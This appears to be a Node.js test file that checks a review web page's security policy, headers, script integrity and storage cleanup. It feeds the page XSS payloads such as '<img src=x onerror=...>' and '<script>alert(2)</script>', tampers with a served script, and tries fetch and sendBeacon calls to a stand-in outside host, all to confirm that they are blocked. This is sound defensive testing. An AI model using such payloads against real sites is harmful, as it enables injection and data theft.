import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { test } from "node:test";
import { Reader } from "./browser.mjs";
import { fixture, named } from "./fixture.mjs";

const context = fixture(({ device }) => void device.send("piano-alone", named("piano-alone", "whole")));

const get = (path) => fetch(context.collector.url + path, { redirect: "manual" });

test("the policy allows only the page's own origin and scripts", async () => {
  const policy = (await get("/review/")).headers.get("content-security-policy");
  const rules = new Map(policy.split("; ").map((rule) => [rule.split(" ")[0], rule.split(" ").slice(1)]));
  assert.deepEqual(rules.get("default-src"), ["'none'"]);
  assert.deepEqual(rules.get("script-src"), ["'self'"]);
  assert.deepEqual(rules.get("connect-src"), ["'self'"]);
  for (const name of ["base-uri", "form-action", "frame-ancestors"]) assert.deepEqual(rules.get(name), ["'none'"], name);
  assert.deepEqual(rules.get("require-trusted-types-for"), ["'script'"]);
  assert.doesNotMatch(policy, /unsafe|https?:|\*/);
});

test("each file of the page has its security headers", async () => {
  for (const path of ["/review/", "/review/app.js", "/review/style.css"]) {
    const { headers } = await get(path);
    const is = (name, value) => assert.equal(headers.get(name), value, `${name} of ${path}`);
    assert.match(headers.get("content-security-policy"), /default-src 'none'/);
    is("referrer-policy", "no-referrer");
    is("x-content-type-options", "nosniff");
    is("x-frame-options", "DENY");
    is("cross-origin-opener-policy", "same-origin");
    is("cross-origin-embedder-policy", "require-corp");
    is("cross-origin-resource-policy", "same-origin");
    is("cache-control", "no-store");
    assert.match(headers.get("permissions-policy"), /microphone=\(\)/);
  }
  const { status, headers } = await get("/review");
  assert.deepEqual([status, headers.get("location")], [308, "review/"]);
});

test("a modified script does not run: integrity is enforced", async () => {
  const html = await (await get("/review/")).text();
  for (const [file, pattern] of [["app.js", /app\.js" integrity="([^"]+)"/], ["style.css", /style\.css" integrity="([^"]+)"/]]) {
    const bytes = Buffer.from(await (await get(`/review/${file}`)).arrayBuffer());
    assert.equal(html.match(pattern)[1], `sha384-${createHash("sha384").update(bytes).digest("base64")}`);
  }
  const reader = await Reader.at(context.collector);
  reader.expected.push(/integrity/);
  await reader.context.route("**/app.js", async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\ndocument.title = "taken over";` });
  });
  await reader.page.reload();
  while (!reader.complaints.some((line) => /integrity/.test(line))) await reader.page.waitForTimeout(20);
  assert.equal(await reader.page.title(), "Sordino review");
  assert.equal(await reader.page.locator("form").count(), 0, "the changed script ran");
  await reader.close();
});

test("injected code neither runs nor sends anything", async () => {
  const reader = await Reader.atQueue(context.collector, { name: "attacker" });
  reader.expected.push(/policy|Content Security Policy|violates|TrustedHTML|ERR_BLOCKED|Refused/i);
  const outcomes = await reader.page.evaluate(async () => {
    const tried = (act) => {
      try {
        return act();
      } catch (error) {
        return error.name;
      }
    };
    const script = () => {
      const element = document.createElement("script");
      element.textContent = "globalThis.ran = true";
      document.body.append(element);
      return globalThis.ran ?? "did not run";
    };
    return {
      html: tried(() => (document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=globalThis.ran=true>"), "written")),
      code: tried(() => new Function("return 1")()),
      script: tried(script),
      elsewhere: await fetch("https://elsewhere.example/").then(() => "sent", () => "refused"),
      beacon: await new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", () => resolve("refused"), { once: true });
        navigator.sendBeacon("https://elsewhere.example/", "x");
        setTimeout(() => resolve("sent"), 60_000);
      }),
    };
  });
  // Browser tools may bypass the policy; the test checks that nothing ran and nothing was sent.
  assert.equal(outcomes.html, "TypeError");
  assert.equal(outcomes.script, "TypeError");
  assert.equal(outcomes.elsewhere, "refused");
  assert.equal(outcomes.beacon, "refused");
  reader.blocked = /elsewhere\.example/;
  await reader.close();
});

test("markup in a tag, note or name is shown as text", async () => {
  const name = "<img src=x onerror=alert(1)>";
  const reader = await Reader.atQueue(context.collector, { name });
  await reader.open("whole");
  await reader.page.getByLabel("Note", { exact: true }).fill("<script>alert(2)</script>");
  await reader.page.keyboard.press("Control+Enter");
  await reader.page.getByLabel("Unusable").check();
  await reader.page.keyboard.press("Control+Enter");
  await reader.page.getByText("Saved: Unusable.").first().waitFor();
  await reader.page.getByRole("button", { name: "To me" }).click();
  await reader.page.locator(".rows .chip", { hasText: `for ${name}` }).waitFor();
  const second = await Reader.atQueue(context.collector, { name: "second" });
  await second.open("whole");
  await second.page.getByText("<script>alert(2)</script>").waitFor();
  assert.equal(await second.page.locator("img").count(), 0);
  await reader.close();
  await second.close();
});

test("nothing is left in the browser's storage", async () => {
  const reader = await Reader.atQueue(context.collector, { name: "leaver" });
  await reader.open("whole");
  const left = await reader.page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
    caches: globalThis.caches ? (await caches.keys()).length : 0,
    workers: (await navigator.serviceWorker?.getRegistrations())?.length ?? 0,
    token: document.documentElement.outerHTML.includes("AGE-SECRET-KEY"),
  }));
  assert.deepEqual(left, { local: 0, session: 0, cookies: "", databases: 0, caches: 0, workers: 0, token: false });
  await reader.close();
});
